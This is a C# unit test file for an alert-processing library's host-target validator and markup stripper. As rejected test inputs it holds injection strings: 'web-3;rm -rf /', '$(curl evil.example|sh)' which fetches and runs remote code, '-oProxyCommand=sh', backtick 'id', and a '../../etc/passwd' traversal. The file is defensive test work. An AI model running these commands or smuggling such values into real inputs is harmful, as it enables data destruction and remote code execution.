using AeonNova.Core.Alerts;
using AeonNova.Core.Tests.TestSupport;

namespace AeonNova.Core.Tests.Alerts;

public class TargetRulesTests
{
    [Theory]
    [InlineData("web-1")]
    [InlineData("WIN-DB-01")]
    [InlineData("lnx-web-04.prod.example.internal")]
    [InlineData("db-1.example.internal.")]
    [InlineData("10.0.4.17")]
    [InlineData("2001:db8::1")]
    [InlineData("i-0a1b2c3d4e5f67890")]
    [InlineData("mi-0123456789abcdef0")]
    [InlineData("ACME_FS01")]
    [InlineData("arn:aws:ec2:eu-west-1:123456789012:instance/i-0a1b2c3d4e5f67890")]
    [InlineData("app/my-load-balancer/50dc6c495c0c9188")]
    [InlineData("/subscriptions/00000000-0000-0000-0000-000000000000/resourceGroups/rg1/providers/Microsoft.Compute/virtualMachines/vm1")]
    public void Check_WhenHostIsANameAddressOrCloudId_ShouldAccept(string host)
    {
        Assert.Null(TargetRules.Check(host));
        Assert.True(TargetRules.IsValid(host));
    }

    [Theory]
    [InlineData("web-3;rm -rf /", "';'")]
    [InlineData("$(curl evil.example|sh)", "'$'")]
    [InlineData("`id`", "'`'")]
    [InlineData("web 1", "U+0020")]
    [InlineData("-oProxyCommand=sh", "'='")]
    [InlineData("host\nname", "U+000A")]
    [InlineData("web-1&&reboot", "'&'")]
    [InlineData("<script>", "'<'")]
    [InlineData("999.1.1.1.", null)]
    [InlineData("-web", null)]
    [InlineData("../../etc/passwd", null)]
    public void Check_WhenHostIsNotATarget_ShouldSayWhyWithoutEchoingIt(string host, string? character)
    {
        var problem = TargetRules.Check(host);

        Assert.NotNull(problem);
        Assert.StartsWith("host is not a DNS name, IP address or cloud instance id", problem, StringComparison.Ordinal);
        if (character is not null)
        {
            Assert.Contains(character, problem, StringComparison.Ordinal);
        }
        Assert.DoesNotContain("rm -rf", problem, StringComparison.Ordinal);
    }

    [Fact]
    public void Parse_WhenHostLabelCarriesAShellFragment_ShouldKeepTheAlertWithoutATarget()
    {
        var alert = Assert.Single(Samples.Parse("alertmanager", "invalid-host.json"));

        Assert.Equal("", alert.Host);
        Assert.NotNull(alert.InvalidTarget);
        Assert.Contains("';'", alert.InvalidTarget, StringComparison.Ordinal);
        Assert.Equal("web-3;rm -rf /", alert.Labels["instance"]);
        Assert.Equal(AlertStatus.Firing, alert.Status);
    }

    [Theory]
    [InlineData("Disk full</script>", "Disk full ")]
    [InlineData("a <!-- x --> b", "a   b")]
    [InlineData("run `rm -rf /tmp` now", "run   now")]
    [InlineData("x ${HOME} y $(id) z", "x   y   z")]
    [InlineData("plain /var/log text", "plain /var/log text")]
    public void WithoutMarkup_WhenTextHoldsMarkupOrCode_ShouldBlankOnlyThoseFragments(string text, string expected)
    {
        Assert.Equal(expected, AlertText.WithoutMarkup(text));
    }
}
